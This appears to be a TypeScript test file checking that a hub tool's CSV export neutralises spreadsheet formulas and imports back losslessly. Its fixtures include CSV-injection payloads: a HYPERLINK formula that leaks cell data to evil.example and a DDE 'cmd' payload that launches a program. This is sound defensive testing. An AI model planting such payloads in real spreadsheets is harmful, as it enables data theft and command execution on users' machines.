import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runExport } from '../scripts/hub/export.js';
import { startTestHub, type TestHub } from './support/hub.js';
import { tokenFor } from './support/security.js';

/**
 * `npm run hub -- export` writes names a spreadsheet would evaluate as formulas neutralised, and
 * `npm run hub -- import` of that file gives back exactly the values exported.
 */
let hub: TestHub;
let hubAdmin: string;
const ROOT = join(import.meta.dirname, '..');
const DIR = mkdtempSync(join(tmpdir(), 'hub-csv-injection-'));

const ALLIANCES = [
  { name: '=HYPERLINK("https://evil.example/?d="&A1,"Mehr erfahren")', goals: '=1+1' },
  { name: '+49 Bündnis', goals: '-Kinderbetreuung\n-Pflege' },
  { name: '-Bündnis Minus', goals: '@Familie' },
  { name: '@Bündnis Klammeraffe', municipality: { name: '=cmd|\' /C calc\'!A0' } },
  { name: '\'s Bündnis mit Apostroph', goals: '\'=nur Text' },
  { name: '\'\'Zwei Apostrophe' },
  { name: 'Bündnis ohne Besonderheiten', goals: 'a=b, -c; @d' },
];

beforeAll(async () => {
  hub = await startTestHub({ seed: false });
  hubAdmin = await tokenFor('ops@example.org', ['hub-admin']);
  for (const alliance of ALLIANCES) {
    const { errors } = await hub.query('mutation($input: CreateAllianceInput!) { createAlliance(input: $input) { id } }',
      { input: { region: 'HE', ...alliance } });
    expect(errors).toBeUndefined();
  }
}, 120_000);
afterAll(async () => { await hub?.stop(); });

async function hubCli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const run = promisify(execFile)(process.execPath, [join(ROOT, 'node_modules/tsx/dist/cli.mjs'), 'scripts/hub.ts', ...args, '--url', hub.gateway.url],
    { cwd: ROOT, env: { ...process.env, HUB_TOKEN: hubAdmin } });
  return run.then(({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    (error: { code: number; stdout: string; stderr: string }) => ({ code: error.code, stdout: error.stdout, stderr: error.stderr }));
}

const exported = async (region: string) => (await runExport({ url: hub.gateway.url, token: hubAdmin, kind: 'alliances', regions: [region] })).rows;

describe('CSV export and import through the command line', () => {
  it.each([
    ['CSV', [], ',', 'SL'],
    ['Excel\'s CSV', ['--excel'], ';', 'BW'],
  ])('%s: no cell starts a formula, and the file imports back to the same values', async (_form, flags, delimiter, region) => {
    const file = join(DIR, `alliances-${region}.csv`);
    const written = await hubCli('export', 'alliances', '--region', 'HE', ...flags as string[], '--out', file);
    expect(written, written.stderr).toMatchObject({ code: 0 });
    const text = readFileSync(file, 'utf8');
    expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Mehr erfahren"")"');
    expect(text).toContain(`${delimiter}"'=1+1"`);
    expect(text).toContain('"\'+49 Bündnis"');
    expect(text).toContain('"\'-Kinderbetreuung\n-Pflege"');
    expect(text).toContain('"\'@Bündnis Klammeraffe"');
    expect(text).toContain('"\'=cmd|\' /C calc\'!A0"');
    expect(text).toContain('"\'\'s Bündnis mit Apostroph"');
    expect(text).toContain('"\'\'\'Zwei Apostrophe"');
    // Each cell's first character as a spreadsheet reads it: a neutralised cell starts with the quote.
    const cells = text.replace(/^\uFEFF/, '').split(/\r\n/).flatMap((line) => line.split(delimiter))
      .map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const again = await hubCli('import', 'alliances', file);
    expect(again, again.stderr).toMatchObject({ code: 0 });
    expect(again.stdout).toContain(`Imported: created 0, updated 0, unchanged ${ALLIANCES.length}`);

    const elsewhere = join(DIR, `alliances-${region}-moved.csv`);
    writeFileSync(elsewhere, text.replaceAll(`\r\nHE${delimiter}`, `\r\n${region}${delimiter}`));
    const moved = await hubCli('import', 'alliances', elsewhere);
    expect(moved, moved.stderr).toMatchObject({ code: 0 });
    expect(moved.stdout).toContain(`Imported: created ${ALLIANCES.length}, updated 0, unchanged 0`);
    expect(await exported(region)).toEqual((await exported('HE')).map((row) => ({ ...row, region })));
    expect((await exported(region)).map((row) => row.name).sort()).toEqual(ALLIANCES.map((a) => a.name).sort());
  }, 60_000);
});
